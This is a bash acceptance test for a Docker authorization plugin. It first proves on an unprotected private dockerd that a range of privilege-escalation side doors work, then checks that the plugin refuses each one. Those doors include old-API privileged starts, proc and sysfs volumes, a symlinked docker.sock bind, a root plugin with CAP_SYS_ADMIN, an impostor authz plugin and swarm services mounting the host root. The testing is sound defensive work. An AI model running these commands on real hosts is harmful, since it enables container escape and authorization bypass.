#!/bin/bash
# End-to-end acceptance for issue 13: every side door to a privileged effect that does not go
# through `containers/create`, tried as a user with plain Docker access would, on a private
# dockerd. Each door has two halves:
#   phase A ("effect"): on a dockerd WITHOUT the authorization plugin the attack really gets
#            the privilege (host PID 1, a host file, CAP_SYS_ADMIN, the host network namespace)
#   phase B ("denied"): the same request with cisgate (policy/default.yaml) is refused with
#            "authorization denied by plugin", and ("allowed") its compliant counterpart passes.
# One line per check; everything started here is stopped by its PID and every directory,
# mount, swarm, plugin and network device removed, also when a check fails.
# Usage: sidedoors.sh [CISGATE-BINARY]   (root; dockerd 20.10, docker CLI, busybox-static)
set -u
BIN=$(readlink -f "${1:-build/cisgate}")
HERE=$(cd "$(dirname "$0")" && pwd)
ROOT=$(cd "$HERE/../.." && pwd)
. "$ROOT/tests/proto/lib.sh"

. "$HERE/sidedoors_lib.sh"
e2e_begin cgsd
# W is world-writable and sticky like /tmp, where any user (or a container with a bind of
# it) can plant a symbolic link; DATA a dedicated directory, the compliant bind source.
chmod 1777 "$W"
DATA=/srv/cge2e-data-$$
SWPORT=$((20000 + $$ % 20000))
GWBRIDGE_BEFORE=$(ip link show docker_gwbridge >/dev/null 2>&1 && echo yes)
mkdir -p "$DATA"
echo "private data" > "$DATA/file"
trap cleanup EXIT

# The shipped default policy, with the audit log in our directory.
# The harmless plugin this suite creates is listed, as a team lists a plugin it reviewed.
sed -e "s#/var/log/cisgate/audit.log#$D/log/audit.log#" \
    -e "s#^  socket: /run/docker.sock#  socket: $D/docker.sock#" \
    -e 's#^  allowed: \[\]$#  allowed: [{name: cgsd-harmless}]#' "$ROOT/policy/default.yaml" > "$D/policy.yaml"
chmod 644 "$D/policy.yaml"

# What the host looks like, to recognise it from inside a container.
HOST_ETC=$(md5sum < /etc/passwd | cut -d" " -f1)	# host /etc, by its passwd file's content
HOST_PID1=$(tr '\0' ' ' < /proc/1/cmdline | cut -c1-40)
HOST_NETNS=$(readlink /proc/1/ns/net)
LIM="--memory 64m --cpus 1 --pids-limit 64"
IMG=cge2e:busybox

echo "== phase A: a private dockerd without the authorization plugin (the doors are real)"
start_dockerd || { echo "FAIL dockerd did not start"; tail -20 "$D/dockerd.log"; exit 1; }
ok "dockerd $(docker version -f '{{.Server.Version}}') runs without an authorization plugin"
make_image

# 1. Old-API start: the body's nested HostConfig (any key case) becomes the container's.
# The third spelling also carries limits at the top level, where cisgate looked.
PROBE='grep CapBnd /proc/self/status; tr "\0" " " < /proc/1/cmdline; echo; md5sum < /host-etc/passwd'
PRIV='{"Privileged":true,"PidMode":"host","Binds":["/etc:/host-etc"]}'
TOPLIM='"Memory":67108864,"NanoCpus":1000000000,"PidsLimit":64'
START1="{\"HostConfig\":$PRIV}"
START2="{\"hostconfig\":$PRIV}"
START3="{$TOPLIM,\"HostConfig\":$PRIV}"
for body in "$START1" "$START2" "$START3"; do
	cid=$(docker create $LIM -u 1000 $IMG sh -c "$PROBE")
	API -X POST -H 'Content-Type: application/json' -d "$body" "http://d/v1.23/containers/$cid/start" >/dev/null
	docker wait "$cid" >/dev/null 2>&1
	out=$(docker logs "$cid" 2>&1)
	effect "1 old-API start with $(printf '%s' "$body" | cut -c1-40)...: privileged (full bounding set), host PID 1, host /etc" \
		all_of "$out" "$(capline CapBnd 21)" "$HOST_PID1" "$HOST_ETC"
	docker rm -f "$cid" >/dev/null 2>&1
done

# 1b. Old-API start joining another container's namespaces: the start body's NetworkMode
# container:X puts a harmless container into X's network, here the host's.
docker run -d --name cgsd-hostnet $LIM -u 1000 --network host $IMG sleep 600 >/dev/null 2>&1
JOIN="{\"HostConfig\":{$TOPLIM,\"NetworkMode\":\"container:cgsd-hostnet\"}}"
cid=$(docker create $LIM -u 1000 --network none $IMG readlink /proc/self/ns/net)
API -X POST -H 'Content-Type: application/json' -d "$JOIN" "http://d/v1.23/containers/$cid/start" >/dev/null
docker wait "$cid" >/dev/null 2>&1
effect "1b old-API start with NetworkMode container:<a host-network container>: in the host's network namespace" \
	has "$(docker logs "$cid" 2>&1)" "$HOST_NETNS"
docker rm -f "$cid" >/dev/null 2>&1

# 1c. A --pid container:X join reaches X's processes: at the same uid, /proc/1/root is X's
# root file system with X's binds (ptrace would give X's namespaces as well).
# Read-only: nothing here may ever write the host's /etc.
docker run -d --name cgsd-mnt $LIM -u 1000 -v /etc:/host-etc:ro $IMG sleep 600 >/dev/null 2>&1
out=$(docker run --rm $LIM -u 1000 --network none --pid container:cgsd-mnt $IMG \
	sh -c 'md5sum < /proc/1/root/host-etc/passwd' 2>&1)
effect "1c run --pid container:<a container with -v /etc> reads the host's /etc through /proc/1/root" \
	has "$out" "$HOST_ETC"
# 1d. A container made before cisgate keeps what it was made with: an exec into it, or a
# later plain start, runs with its mounts and namespaces.
effect "1d exec into a container made with -v /etc reads the host's /etc" \
	has "$(docker exec cgsd-mnt sh -c 'md5sum < /host-etc/passwd' 2>&1)" "$HOST_ETC"
docker stop -t 1 cgsd-hostnet >/dev/null 2>&1
docker start cgsd-hostnet >/dev/null 2>&1
effect "1d a plain start of a stopped host-network container puts it in the host's network" \
	has "$(docker exec cgsd-hostnet readlink /proc/self/ns/net 2>&1)" "$HOST_NETNS"
docker stop -t 1 cgsd-mnt >/dev/null 2>&1
# 1e. docker cp reads as root through the container's mounts, stopped or running (dockerd
# mounts them for the copy); docker export reads its root file system alone.
effect "1e docker cp out of a stopped container made with -v /etc reads the host's /etc" \
	has "$(timeout -k 5 60 docker cp cgsd-mnt:/host-etc/passwd - 2>&1 | tar -xO 2>&1 | md5sum)" "$HOST_ETC"
effect "1e dockerd routes a request target with any scheme (a:/containers/...) as the path" \
	has "$(API --request-target 'a:/containers/cgsd-mnt/archive?path=/host-etc/passwd' http://d/ 2>&1 | tar -xO 2>&1 | md5sum)" "$HOST_ETC"
check "1e docker export of it holds none of its mounts (not a door)" \
	sh -c "timeout -k 5 60 docker export cgsd-mnt | tar -t | grep -q '^bin/' && ! timeout -k 5 60 docker export cgsd-mnt | tar -t | grep -q 'host-etc/.'"
API -X POST -H 'Content-Type: application/json' -d "{\"HostConfig\":{$TOPLIM}}" \
	"http://d/v1.23/containers/cgsd-mnt/start" >/dev/null
effect "1d an old-API start whose HostConfig has no binds keeps the container's bind of /etc" \
	has "$(docker exec cgsd-mnt sh -c 'md5sum < /host-etc/passwd' 2>&1)" "$HOST_ETC"

# 4. Local volumes: a relative bind device (resolved against dockerd's cwd, /) and kernel
# file systems mounted on the host's behalf.
docker volume create -o type=none -o o=bind -o device=etc cgsd-etc >/dev/null 2>&1
out=$(docker run --rm $LIM -u 1000 -v cgsd-etc:/m $IMG sh -c "md5sum < /m/passwd" 2>&1)
effect "4 volume o=bind,device=etc (relative) shows the host's /etc" has "$out" "$HOST_ETC"
docker volume create -o type=proc -o device=proc cgsd-proc >/dev/null 2>&1
out=$(docker run --rm $LIM -u 1000 -v cgsd-proc:/m $IMG sh -c \
	'tr "\0" " " < /m/1/cmdline; echo; grep " /m " /proc/mounts; test -f /m/sys/kernel/core_pattern && echo core_pattern' 2>&1)
effect "4 volume type=proc is the host's procfs, read-write, with kernel/core_pattern" \
	all_of "$out" "$HOST_PID1" "proc /m proc rw" "core_pattern"
docker volume create -o type=sysfs -o device=sysfs cgsd-sys >/dev/null 2>&1
out=$(docker run --rm $LIM -u 1000 -v cgsd-sys:/m $IMG sh -c 'grep " /m " /proc/mounts; ls /m/kernel' 2>&1)
effect "4 volume type=sysfs is a read-write host sysfs" all_of "$out" "sysfs /m sysfs rw" "boot_params"
mkdir -p "$D/ovl/up" "$D/ovl/work"
docker volume create -o type=overlay -o device=overlay \
	-o o=lowerdir=/etc,upperdir=$D/ovl/up,workdir=$D/ovl/work cgsd-ovl >/dev/null 2>&1
out=$(docker run --rm $LIM -u 1000 -v cgsd-ovl:/m $IMG sh -c "md5sum < /m/passwd" 2>&1)
effect "4 volume type=overlay,lowerdir=/etc shows the host's /etc" has "$out" "$HOST_ETC"
docker volume rm cgsd-etc cgsd-proc cgsd-sys cgsd-ovl >/dev/null 2>&1

# 5. Bind sources: a symbolic link planted in a world-writable directory is followed by the
# kernel; a parent of a sensitive path holds it.
ln -s /etc "$W/link"
ln -s "$D/docker.sock" "$W/sock"
out=$(docker run --rm $LIM -u 1000 -v "$W/link:/m" $IMG sh -c "md5sum < /m/passwd" 2>&1)
effect "5 -v $W/link:/m (link to /etc) shows the host's /etc" has "$out" "$HOST_ETC"
out=$(docker run --rm $LIM -u 1000 -v "$W/sock:/s" $IMG sh -c 'test -S /s && echo socket' 2>&1)
effect "5 -v $W/sock:/s (link to the daemon's docker.sock) mounts the API socket" has "$out" socket
out=$(docker run --rm $LIM -u 1000 -v /var:/v $IMG sh -c 'test -f /v/lib/dpkg/status && echo dpkg' 2>&1)
effect "5 -v /var:/v holds the host's /var/lib (package database, docker and containerd state)" has "$out" dpkg
out=$(docker run --rm $LIM -u 1000 -v /var/lib:/v $IMG sh -c 'test -f /v/dpkg/status && echo dpkg' 2>&1)
effect "5 -v /var/lib:/v holds the host's /var/lib" has "$out" dpkg
# The daemon's real data root (here not /var/lib/docker) holds every container's files.
other=$(docker create $LIM -u 1000 $IMG true 2>&1)
out=$(docker run --rm $LIM -v "$D/root:/r" $IMG ls /r/containers 2>&1)
effect "5 -v <dockerd's --data-root>:/r shows the other containers' state" has "$out" "${other:-no container}"
docker rm -f "$other" >/dev/null 2>&1

# 6. Update: removing the only CPU control.
docker run -d --name cgsd-upd --memory 64m --pids-limit 64 --cpu-quota 50000 -u 1000 $IMG sleep 300 >/dev/null 2>&1
docker update --cpu-quota -1 cgsd-upd >/dev/null 2>&1
out=$(docker exec cgsd-upd sh -c 'cat /sys/fs/cgroup/cpu/cpu.cfs_quota_us 2>/dev/null || cat /sys/fs/cgroup/cpu.max' 2>&1)
effect "6 update --cpu-quota -1 leaves no CPU control (cfs quota: $out)" test "$out" = -1 -o "${out%% *}" = max
docker rm -f cgsd-upd >/dev/null 2>&1

# 7. Limits that do not limit.
out=$(docker run --rm --memory 8t --memory-swap -1 --pids-limit 4194304 --cpus 1 -u 1000 $IMG sh -c '
	cat /sys/fs/cgroup/memory/memory.limit_in_bytes /sys/fs/cgroup/pids/pids.max
	cat /sys/fs/cgroup/memory/memory.memsw.limit_in_bytes 2>/dev/null || echo noswapacct' 2>&1)
mem=$(echo "$out" | sed -n 1p); pids=$(echo "$out" | sed -n 2p); swap=$(echo "$out" | sed -n 3p)
host_mem=$(($(awk '/MemTotal/ {print $2}' /proc/meminfo) * 1024))
effect "7 --memory 8t is no limit (cgroup $mem >= host RAM $host_mem)" ge "$mem" "$host_mem"
effect "7 --pids-limit 4194304 is no limit (pids.max $pids >= pid_max $(cat /proc/sys/kernel/pid_max))" \
	ge "$pids" "$(cat /proc/sys/kernel/pid_max)"
effect "7 --memory-swap -1 is unlimited swap (memsw $swap)" sh -c "[ '$swap' = noswapacct ] || [ '$swap' -ge 9000000000000000000 ]"

# 8. A single-string CapAdd is what dockerd accepts as a one-element list.
out=$(API -X POST -H 'Content-Type: application/json' -d "$CAPSTR" "http://d/v1.41/containers/create?name=cgsd-cap")
effect "8 raw create with \"CapAdd\": \"NET_BIND_SERVICE\" is accepted by dockerd" \
	test "$(docker inspect -f '{{.HostConfig.CapAdd}}' cgsd-cap 2>&1)" = "[NET_BIND_SERVICE]"
docker rm -f cgsd-cap >/dev/null 2>&1

# 3. Managed plugins: a local directory becomes a root process with what its config asks.
"$HERE/mkplugin.sh" "$BIN" "$D/pl-evil" evil "$D/plugin-proof"
"$HERE/mkplugin.sh" "$BIN" "$D/pl-authz" authz
docker plugin create cgsd-evil "$D/pl-evil" >/dev/null 2>&1
docker plugin enable cgsd-evil >/dev/null 2>&1
out=$(cat "$D/plugin-proof" 2>&1)
effect "3 plugin create+enable: a root process with CAP_SYS_ADMIN, host PID and network, every device, host / rw" \
	all_of "$out" "uid=0" "$(capline CapEff 21)" "pid1=$HOST_PID1" "netns=$HOST_NETNS" "devices=a *:* rwm" \
	"hostroot=$HOST_ETC"
# Left installed but disabled: phase B tries to enable it.
docker plugin disable -f cgsd-evil >/dev/null 2>&1
# A managed plugin under the AuthZ plugin's own name answers in its place (shown below).
docker plugin create "$NAME" "$D/pl-authz" >/dev/null 2>&1 && docker plugin enable "$NAME" >/dev/null 2>&1
check "3 a managed authz plugin named $NAME (allow-all) is created and enabled" \
	test "$(docker plugin inspect -f '{{.Enabled}}' "$NAME" 2>&1)" = true

# 2. Swarm: services' task containers are created inside the daemon, never through AuthZ.
out=$(timeout -k 5 60 docker swarm init --advertise-addr 127.0.0.1 --listen-addr 127.0.0.1:$SWPORT 2>&1)
SWARM=
if check "2 swarm init --advertise-addr 127.0.0.1 works on a private dockerd" \
	test "$(docker info -f '{{.Swarm.LocalNodeState}}' 2>&1)" = active; then SWARM=1; fi
if [ -n "$SWARM" ]; then
	docker service create -d --no-resolve-image --name cgsd-evil --restart-condition none \
		--mount type=bind,src=/,dst=/host --cap-add SYS_ADMIN --network host $IMG \
		sh -c 'echo uid=$(id -u); grep CapEff /proc/self/status; readlink /proc/self/ns/net; md5sum < /host/etc/passwd; sleep 300' >/dev/null 2>&1
	out=$(task_logs cgsd-evil "$HOST_ETC")
	effect "2 service create: task runs as root with CAP_SYS_ADMIN, host network, host / mounted" \
		all_of "$out" "uid=0" "$(capline CapEff 21)" "$HOST_NETNS" "$HOST_ETC"
	docker service create -d --no-resolve-image --name cgsd-good --restart-condition none \
		--limit-memory 64m --limit-cpu 1 --limit-pids 64 -u 1000 $IMG sleep 300 >/dev/null 2>&1
	task_logs cgsd-good "" >/dev/null
	docker service update -d --no-resolve-image --cap-add SYS_ADMIN --mount-add type=bind,src=/,dst=/host \
		cgsd-good >/dev/null 2>&1
	caps=$(task_inspect cgsd-good '{{.HostConfig.CapAdd}} {{range .Mounts}}{{.Source}}{{end}}' CAP_SYS_ADMIN)
	effect "2 service update --cap-add SYS_ADMIN --mount-add src=/: the new task has them ($caps)" \
		all_of "$caps" CAP_SYS_ADMIN " /"
	# 2b. A template in a mount's source is expanded by the node after AuthZ saw the text:
	# a service named etc mounting /{{.Service.Name}} mounts /etc.
	docker service create -d --no-resolve-image --name etc --restart-condition none \
		--limit-memory 64m --limit-cpu 1 --limit-pids 64 -u 1000 \
		--mount 'type=bind,src=/{{.Service.Name}},dst=/x,readonly' $IMG \
		sh -c 'md5sum < /x/passwd; sleep 300' >/dev/null 2>&1
	out=$(task_logs etc "$HOST_ETC")
	effect "2b service etc with --mount src=/{{.Service.Name}} (a swarm template): the task reads the host's /etc" \
		has "$out" "$HOST_ETC"
	docker service rm cgsd-evil cgsd-good etc >/dev/null 2>&1
	wait_no_tasks
fi

# 3 (cont). The managed plugin named like cisgate, seen from a dockerd configured for cisgate.
stop_dockerd
start_cisgate || { bad "cisgate started"; cat "$D/cisgate.err"; exit 1; }
if start_dockerd "$NAME"; then
	out=$(timeout -k 5 60 docker run --rm $LIM -u 1000 --privileged $IMG grep CapBnd /proc/self/status 2>&1)
	effect "3 with the managed plugin named $NAME enabled, dockerd asks it, not cisgate: --privileged runs" \
		all_of "$out" "$(capline CapBnd 21)"
	effect "3 and cisgate never saw the request (no audit record)" sh -c "! grep -q privileged '$D/log/audit.log'"
else
	bad "3 dockerd starts with authorization-plugins [$NAME]" "$(tail -3 "$D/dockerd.log")"
fi
stop_dockerd
start_dockerd
docker plugin disable -f "$NAME" >/dev/null 2>&1
docker plugin rm -f "$NAME" >/dev/null 2>&1
check "3 the impostor plugin is removed again" sh -c "! docker plugin inspect $NAME"
stop_dockerd

echo "== phase B: the same dockerd data root with cisgate (policy/default.yaml)"
start_dockerd "$NAME" || { bad "dockerd starts with cisgate"; tail -20 "$D/dockerd.log"; exit 1; }
ok "dockerd runs with \"authorization-plugins\": [\"$NAME\"] (cisgate)"
before=$(docker ps -aq | wc -l)

# 1. Old-API start.
cid=$(docker create $LIM -u 1000 $IMG sh -c "$PROBE" 2>/dev/null)
check "1 allowed: a compliant container is created" test -n "$cid"
# Denied for the right reason: the nested HostConfig's privileges, not the top level's limits.
for body in "$START1" "$START2" "$START3"; do
	rawdeny "1 denied (as privileged): POST /v1.23/containers/ID/start with $(printf '%s' "$body" | cut -c1-40)..." \
		"[CIS 5.4] privileged" -X POST -H 'Content-Type: application/json' -d "$body" \
		"http://d/v1.23/containers/$cid/start"
done
check "1 denied starts did not start it" test "$(docker inspect -f '{{.State.StartedAt}}' "$cid" 2>&1)" = "0001-01-01T00:00:00Z"
docker rm -f "$cid" >/dev/null 2>&1
cid=$(docker create $LIM -u 1000 $IMG id -u 2>/dev/null)
check "1 allowed: a plain docker start" docker start "$cid"
docker wait "$cid" >/dev/null 2>&1
check "1 allowed: a plain start at API 1.23 (DOCKER_API_VERSION=1.23 docker start)" \
	env DOCKER_API_VERSION=1.23 docker start "$cid"
docker wait "$cid" >/dev/null 2>&1
# Go's server reads a request with neither Content-Length nor Transfer-Encoding as bodiless,
# but dockerd hides Transfer-Encoding from the plugin and an unpatched one (CVE-2024-41110)
# drops a chunked body: cisgate cannot tell the two apart, so it fails closed and says how
# to send it (the CLI's Content-Length: 0 start is allowed above).
rawdeny "1 denied: POST /v1.23/containers/ID/start with no body and no Content-Length (curl -X POST)" \
	"send Content-Length: 0" -X POST "http://d/v1.23/containers/$cid/start"
rawok "1 allowed: the same start with Content-Length: 0" 204 \
	-X POST -H 'Content-Length: 0' "http://d/v1.23/containers/$cid/start"
docker rm -f "$cid" >/dev/null 2>&1

# 1b. The joined container is looked up in dockerd: a host-network one is refused, a
# compliant one is not.
# 1d. The containers phase A made stopped with dockerd: starting one again is judged on
# what dockerd says it was made with (the join below is decided the same way).
out=$(docker start cgsd-hostnet 2>&1)
check "1d denied: a plain start of cgsd-hostnet (host network, made before cisgate)" \
	all_of "$out" "authorization denied by plugin $NAME" "[CIS 5.9] host-network: start runs container cgsd-hostnet, made outside this policy"
check "1d the denied start did not start it" test "$(docker inspect -f '{{.State.Running}}' cgsd-hostnet 2>&1)" = false
docker run -d --name cgsd-plainnet $LIM -u 1000 --network none $IMG sleep 600 >/dev/null 2>&1
cid=$(docker create $LIM -u 1000 --network none $IMG readlink /proc/self/ns/net 2>/dev/null)
rawdeny "1b denied: POST /v1.23/containers/ID/start with NetworkMode container:cgsd-hostnet (host network)" \
	"[CIS 5.9] host-network" -X POST -H 'Content-Type: application/json' -d "$JOIN" \
	"http://d/v1.23/containers/$cid/start"
check "1b the denied start did not start it" test "$(docker inspect -f '{{.State.StartedAt}}' "$cid" 2>&1)" = "0001-01-01T00:00:00Z"
rawok "1b allowed: the same start joining cgsd-plainnet (no host namespace)" 204 \
	-X POST -H 'Content-Type: application/json' \
	-d "{\"HostConfig\":{$TOPLIM,\"NetworkMode\":\"container:cgsd-plainnet\"}}" \
	"http://d/v1.23/containers/$cid/start"
docker rm -f "$cid" cgsd-plainnet >/dev/null 2>&1

# 1c. A --pid join is judged with the joined container's mounts, namespaces, privileges.
out=$(docker exec -u 1000:1000 cgsd-mnt true 2>&1)
check "1d denied: exec into cgsd-mnt (a bind of /etc, made before cisgate)" \
	all_of "$out" "authorization denied by plugin $NAME" "[CIS 5.5] sensitive-mounts: exec enters container cgsd-mnt"
rawdeny "1d denied: an old-API start of cgsd-mnt with a compliant HostConfig (dockerd keeps its mounts)" \
	"sensitive-mounts: start runs container cgsd-mnt" -X POST -H 'Content-Type: application/json' \
	-d "{\"HostConfig\":{$TOPLIM}}" "http://d/v1.23/containers/cgsd-mnt/start"
out=$(docker restart -t 1 cgsd-mnt 2>&1)
check "1d denied: restart of cgsd-mnt" all_of "$out" "authorization denied by plugin $NAME" "restart runs container cgsd-mnt"
out=$(timeout -k 5 60 docker cp cgsd-mnt:/host-etc/passwd - 2>&1)
check "1e denied: docker cp out of cgsd-mnt (a bind of /etc, made before cisgate)" \
	all_of "$out" "authorization denied by plugin $NAME" "[CIS 5.5] sensitive-mounts: cp reads from container cgsd-mnt, made outside this policy"
rawdeny "1e denied: the old API's copy out of cgsd-mnt" "cp reads from container cgsd-mnt" \
	-X POST -H 'Content-Type: application/json' -d '{"Resource":"/host-etc/passwd"}' \
	"http://d/v1.23/containers/cgsd-mnt/copy"
rawdeny "1e denied: the same copy with the request target a:/v1.41/containers/..." "cp reads from container cgsd-mnt" \
	--request-target 'a:/v1.41/containers/cgsd-mnt/archive?path=/host-etc/passwd' http://d/
docker run -d --name cgsd-plainpid $LIM -u 1000 --network none $IMG sleep 600 >/dev/null 2>&1
check "1e allowed: docker cp out of a compliant container" \
	sh -c "timeout -k 5 60 docker cp cgsd-plainpid:/bin/busybox - | tar -t | grep -qx busybox"
out=$(docker run --rm $LIM -u 1000 --network none --pid container:cgsd-mnt $IMG true 2>&1)
check "1c denied: run --pid container:cgsd-mnt (it mounts the host's /etc), as inherited" \
	all_of "$out" "authorization denied by plugin $NAME" "--pid container:cgsd-mnt inherits from container cgsd-mnt"
check "1c allowed: run --pid container:cgsd-plainpid (a plain container)" \
	docker run --rm $LIM -u 1000 --network none --pid container:cgsd-plainpid $IMG true
check "1d allowed: restart of a compliant container" docker restart -t 1 cgsd-plainpid
docker rm -f cgsd-plainpid >/dev/null 2>&1

# 2. Swarm: services on the swarm made in phase A, then swarm init on a fresh node.
if [ -n "$SWARM" ]; then
	check "2 the swarm is still active under cisgate" test "$(docker info -f '{{.Swarm.LocalNodeState}}' 2>&1)" = active
	denied "2 denied: service create as root, bind of /, CAP_SYS_ADMIN, host network, no limits" \
		docker service create -d --no-resolve-image --name cgsd-evil --restart-condition none \
		--mount type=bind,src=/,dst=/host --cap-add SYS_ADMIN --network host $IMG sleep 300
	denied "2 denied: service create with only --mount type=bind,src=/" \
		docker service create -d --no-resolve-image --name cgsd-evil2 --limit-memory 64m --limit-cpu 1 \
		--limit-pids 64 -u 1000 --mount type=bind,src=/,dst=/host $IMG sleep 300
	denied "2 denied: service create with only a bind of docker.sock" \
		docker service create -d --no-resolve-image --name cgsd-evil6 --limit-memory 64m --limit-cpu 1 \
		--limit-pids 64 -u 1000 --mount type=bind,src=/var/run/docker.sock,dst=/s $IMG sleep 300
	denied "2 denied: service create with only --network host" \
		docker service create -d --no-resolve-image --name cgsd-evil3 --limit-memory 64m --limit-cpu 1 \
		--limit-pids 64 -u 1000 --network host $IMG sleep 300
	# As `docker run` and `docker exec` without -u: default.yaml denies it (root-user), and
	# says so in the record.
	denied "2 denied: service create without -u, otherwise compliant" \
		docker service create -d --no-resolve-image --name cgsd-evil4 --limit-memory 64m --limit-cpu 1 \
		--limit-pids 64 $IMG sleep 300
	check "2 the denial names root-user" sh -c "grep -q '\"endpoint\":\"service_create\".*\"rule\":\"root-user\"' '$D/log/audit.log'"
	denied "2 denied: service create without --limit-memory/--limit-pids" \
		docker service create -d --no-resolve-image --name cgsd-evil5 --limit-cpu 1 -u 1000 $IMG sleep 300
	check "2 allowed: a compliant service (limits, -u 1000, no mounts)" \
		docker service create -d --no-resolve-image --name cgsd-good --restart-condition none \
		--limit-memory 64m --limit-cpu 1 --limit-pids 64 -u 1000 $IMG sleep 300
	out=$(task_inspect cgsd-good '{{.Config.User}}' 1000)
	check "2 allowed: its task runs (user $out)" test "$out" = 1000
	denied "2 denied: service update --cap-add SYS_ADMIN" \
		docker service update -d --no-resolve-image --cap-add SYS_ADMIN cgsd-good
	denied "2 denied: service update --mount-add type=bind,src=/" \
		docker service update -d --no-resolve-image --mount-add type=bind,src=/,dst=/host cgsd-good
	check "2 allowed: service update --limit-memory 128m" \
		docker service update -d --no-resolve-image --limit-memory 128m cgsd-good
	out=$(timeout -k 5 60 docker service create -d --no-resolve-image --name etc --limit-memory 64m \
		--limit-cpu 1 --limit-pids 64 -u 1000 --mount 'type=bind,src=/{{.Service.Name}},dst=/x,readonly' \
		$IMG sleep 300 2>&1)
	check "2b denied: service etc with --mount src=/{{.Service.Name}}, saying templates are expanded after cisgate" \
		all_of "$out" "authorization denied by plugin" "holds a template"
	denied "2b denied: service update --mount-add src={{.Service.Name}}" \
		docker service update -d --no-resolve-image --mount-add 'type=volume,src={{.Service.Name}},dst=/x' cgsd-good
	docker service rm cgsd-good >/dev/null 2>&1
	wait_no_tasks
	# Leaving is not a privilege; if cisgate refuses it, leave through a plain dockerd.
	if ! docker swarm leave --force >/dev/null 2>&1; then
		stop_dockerd; start_dockerd; docker swarm leave --force >/dev/null 2>&1; stop_dockerd
		start_dockerd "$NAME" || { bad "dockerd restarts with cisgate"; exit 1; }
	fi
	remove_gwbridge
else
	bad "2 service checks skipped: swarm init failed in phase A" "$(tail -3 "$D/dockerd.log")"
fi
denied "2 denied: swarm init --advertise-addr 127.0.0.1" \
	docker swarm init --advertise-addr 127.0.0.1 --listen-addr 127.0.0.1:$SWPORT
if [ "$(docker info -f '{{.Swarm.LocalNodeState}}' 2>&1)" = active ]; then
	docker swarm leave --force >/dev/null 2>&1
	remove_gwbridge
fi

# 3. Managed plugins.
# Each create gets a directory of its own (see mkplugin.sh).
"$HERE/mkplugin.sh" "$BIN" "$D/pl-evil2" evil "$D/plugin-proof2"
"$HERE/mkplugin.sh" "$BIN" "$D/pl-authz2" authz
"$HERE/mkplugin.sh" "$BIN" "$D/pl-authz3" authz
denied "3 denied: plugin create from a directory asking for host net/PID, SYS_ADMIN, /, all devices" \
	docker plugin create cgsd-evil2 "$D/pl-evil2"
rm -f "$D/plugin-proof"
denied "3 denied: plugin enable of that plugin (created before cisgate)" docker plugin enable cgsd-evil
check "3 the privileged plugin's process did not run again (no new proof file)" test ! -e "$D/plugin-proof"
denied "3 denied: a managed plugin named like the AuthZ plugin ($NAME)" docker plugin create "$NAME" "$D/pl-authz2"
denied "3 denied: a managed plugin of type docker.authz/1.0 under another name" \
	docker plugin create cgsd-authz "$D/pl-authz3"
"$HERE/mkplugin.sh" "$BIN" "$D/pl-harmless" harmless
check "3 allowed: plugin create of a plugin asking for nothing" docker plugin create cgsd-harmless "$D/pl-harmless"
check "3 allowed: plugin enable of that plugin" docker plugin enable cgsd-harmless
# TODO(issue 13, plugins: section): once the policy's `plugins:` allow-list syntax is decided,
# allow-list cgsd-evil by name and digest in a copy of default.yaml and check that its enable
# is allowed then. Left out: the syntax does not exist yet.

# 4. Local volumes.
denied "4 denied: volume create -o type=none -o o=bind -o device=etc (relative to dockerd's cwd /)" \
	docker volume create -o type=none -o o=bind -o device=etc cgsd-etc
denied "4 denied: volume create -o type=proc -o device=proc" docker volume create -o type=proc -o device=proc cgsd-proc
denied "4 denied: volume create -o type=sysfs -o device=sysfs" docker volume create -o type=sysfs -o device=sysfs cgsd-sys
denied "4 denied: volume create -o type=overlay -o o=lowerdir=/etc,..." docker volume create -o type=overlay \
	-o device=overlay -o o=lowerdir=/etc,upperdir=$D/ovl/up,workdir=$D/ovl/work cgsd-ovl
denied "4 denied: --mount type=volume with volume-opt type=proc" docker run --rm $LIM -u 1000 \
	--mount type=volume,dst=/m,volume-opt=type=proc,volume-opt=device=proc $IMG true
check "4 allowed: a tmpfs volume" docker volume create -o type=tmpfs -o device=tmpfs -o o=size=10m cgsd-tmp
out=$(docker run --rm $LIM -u 1000 -v cgsd-tmp:/m $IMG sh -c 'grep " /m " /proc/mounts' 2>&1)
check "4 allowed: and a container uses it" has "$out" "tmpfs /m tmpfs"
docker volume rm cgsd-tmp >/dev/null 2>&1

# 5. Bind sources.
denied "5 denied: -v $W/link:/m (a link to /etc in a world-writable dir)" \
	docker run --rm $LIM -u 1000 -v "$W/link:/m" $IMG true
denied "5 denied: --mount type=bind,src=$W/link" \
	docker run --rm $LIM -u 1000 --mount "type=bind,src=$W/link,dst=/m" $IMG true
denied "5 denied: -v $W/sock:/s (a link to docker.sock)" docker run --rm $LIM -u 1000 -v "$W/sock:/s" $IMG true
denied "5 denied: -v /var:/v (a parent of /var/lib/docker)" docker run --rm $LIM -u 1000 -v /var:/v $IMG true
denied "5 denied: -v /var/lib:/v" docker run --rm $LIM -u 1000 -v /var/lib:/v $IMG true
denied "5 denied: -v <dockerd's --data-root>:/r" docker run --rm $LIM -u 1000 -v "$D/root:/r" $IMG true
out=$(timeout -k 5 60 docker run --rm $LIM -u 1000 -v "$DATA:/data:ro" $IMG cat /data/file 2>&1)
check "5 allowed: -v $DATA:/data (a dedicated directory)" test "$out" = "private data"

# 6. Update.
check "6 allowed: create with --cpu-quota 50000 as its only CPU control" \
	docker run -d --name cgsd-upd --memory 64m --pids-limit 64 --cpu-quota 50000 -u 1000 $IMG sleep 300
denied "6 denied: update --cpu-quota -1 (removes the only CPU control)" docker update --cpu-quota -1 cgsd-upd
check "6 allowed: update --memory 128m --memory-swap 256m (limits kept)" \
	docker update --memory 128m --memory-swap 256m cgsd-upd
check "6 the CPU quota is still set" test "$(docker inspect -f '{{.HostConfig.CpuQuota}}' cgsd-upd 2>&1)" = 50000
docker rm -f cgsd-upd >/dev/null 2>&1

# 7. Limits that do not limit.
denied "7 denied: --memory 8t" docker run --rm --memory 8t --cpus 1 --pids-limit 64 -u 1000 $IMG true
denied "7 denied: --memory-swap -1" docker run --rm --memory 64m --memory-swap -1 --cpus 1 --pids-limit 64 -u 1000 $IMG true
denied "7 denied: --pids-limit 4194304" docker run --rm --memory 64m --cpus 1 --pids-limit 4194304 -u 1000 $IMG true
out=$(timeout -k 5 60 docker run --rm --memory 256m --pids-limit 100 --cpus 1 -u 1000 $IMG id -u 2>&1)
check "7 allowed: --memory 256m --pids-limit 100 --cpus 1" test "$out" = 1000

# 8. No false denial.
rawok "8 allowed: raw create with \"CapAdd\": \"NET_BIND_SERVICE\" (a single string)" 201 \
	-X POST -H 'Content-Type: application/json' -d "$CAPSTR" "http://d/v1.41/containers/create?name=cgsd-cap"
